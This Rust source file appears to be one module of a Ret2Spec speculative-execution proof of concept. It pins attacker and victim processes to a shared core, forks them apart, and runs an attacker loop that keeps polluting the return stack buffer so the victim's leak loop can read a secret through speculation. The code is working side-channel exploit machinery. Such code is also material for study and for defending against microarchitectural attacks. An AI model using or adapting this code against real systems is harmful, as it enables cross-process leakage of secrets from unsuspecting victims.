//! Attacker/victim split for the cross-process variant.
//!
//! Both processes must share one physical core, since their only channel is
//! the return predictor and the caches of that core. The parent pins itself
//! before forking so the child inherits the mask. The child (attacker) keeps
//! the predictor full of `returns_false` return addresses; the parent
//! (victim) runs the leak loop. No memory is shared and nothing is locked.
//! The attacker stops on its own once it sees it has been re-parented.

use std::io;
use std::mem;

use crate::engine::Engine;
use crate::error::{Result, Ret2SpecError};

/// Which half of the split the current process is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProcessRole {
    /// Runs only `returns_false`, never touches the oracle or the secret.
    Attacker,
    /// Runs only the leak loop and `returns_true`.
    Victim { attacker: libc::pid_t },
}

/// Restrict the calling process to logical core `core`.
pub fn pin_to_core(core: usize) -> Result<()>
{
    // CPU_SET panics past the end of the set, and that cannot unwind out
    if core >= libc::CPU_SETSIZE as usize {
        return Err(Ret2SpecError::Affinity {
            core,
            source: io::Error::new(io::ErrorKind::InvalidInput, "core index outside cpu_set_t"),
        });
    }
    unsafe {
        let mut set: libc::cpu_set_t = mem::zeroed();
        libc::CPU_ZERO(&mut set);
        libc::CPU_SET(core, &mut set);
        if libc::sched_setaffinity(0, mem::size_of::<libc::cpu_set_t>(), &set) != 0 {
            return Err(Ret2SpecError::Affinity { core, source: io::Error::last_os_error() });
        }
    }
    tracing::debug!(core, "pinned to core");
    Ok(())
}

pub fn current_pid() -> libc::pid_t
{
    unsafe { libc::getpid() }
}

/// Fork into attacker (child) and victim (parent).
///
/// Must be called while the process is still single-threaded.
pub fn split_roles() -> Result<ProcessRole>
{
    match unsafe { libc::fork() } {
        -1 => Err(Ret2SpecError::Fork(io::Error::last_os_error())),
        0 => Ok(ProcessRole::Attacker),
        child => {
            tracing::debug!(attacker = child, "forked attacker");
            Ok(ProcessRole::Victim { attacker: child })
        }
    }
}

/// Source of the current parent pid.
pub trait ParentProbe {
    fn parent_pid(&self) -> libc::pid_t;
}

/// `getppid` of the calling process.
pub struct Getppid;

impl ParentProbe for Getppid {
    fn parent_pid(&self) -> libc::pid_t
    {
        unsafe { libc::getppid() }
    }
}

/// Poll-based liveness channel to the process that spawned us. Once the
/// original parent exits the kernel re-parents us and the pid changes.
pub struct ParentWatch<P> {
    original: libc::pid_t,
    probe: P,
}

impl<P: ParentProbe> ParentWatch<P> {
    pub fn new(original: libc::pid_t, probe: P) -> Self
    {
        ParentWatch { original, probe }
    }

    pub fn parent_alive(&self) -> bool
    {
        self.probe.parent_pid() == self.original
    }
}

/// Attacker main loop: pollute the predictor until the victim is gone.
/// Returns the number of completed pollution rounds.
pub fn run_attacker<P: ParentProbe>(engine: &Engine<'_>, watch: &ParentWatch<P>) -> u64
{
    let mut rounds = 0u64;
    loop {
        engine.returns_false(engine.depth());
        rounds += 1;
        if !watch.parent_alive() {
            return rounds;
        }
    }
}
